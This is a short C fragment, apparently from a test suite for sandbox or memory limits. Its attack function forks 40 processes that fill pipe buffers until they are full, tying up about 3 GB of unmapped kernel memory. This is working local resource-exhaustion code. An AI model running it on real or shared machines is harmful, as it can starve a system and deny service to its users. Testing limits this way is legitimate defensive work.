/* Takes three gigabytes that no process maps, in the buffers of pipes, one process after the other.
 * A user's first ones are large, and the others have two pages, pipe(7). */
#include <fcntl.h>
#include <sys/resource.h>
static void fill_pipes(void)
{
    static char block[1 << 16];
    int ends[2];
    while (pipe2(ends, O_NONBLOCK) != -1 && write(ends[1], block, sizeof block) > 0)
        ;
}
static void attack(void)
{
    enum { PROCESSES = 40 };
    struct rlimit limit;
    int full[2];
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max < 20000 ? limit.rlim_max : 20000;
    setrlimit(RLIMIT_NOFILE, &limit);
    if (pipe(full) == -1)
        return;
    for (int i = 0; i < PROCESSES; i++) {
        if (fork() == 0) {
            fill_pipes();
            close(full[1]);
            for (;;)
                pause();
        }
        close(full[1]);
        if (read(full[0], &limit, 1) != 0 || close(full[0]) == -1 || pipe(full) == -1)
            return;
    }
    succeeded("3000 MB in pipes");
}
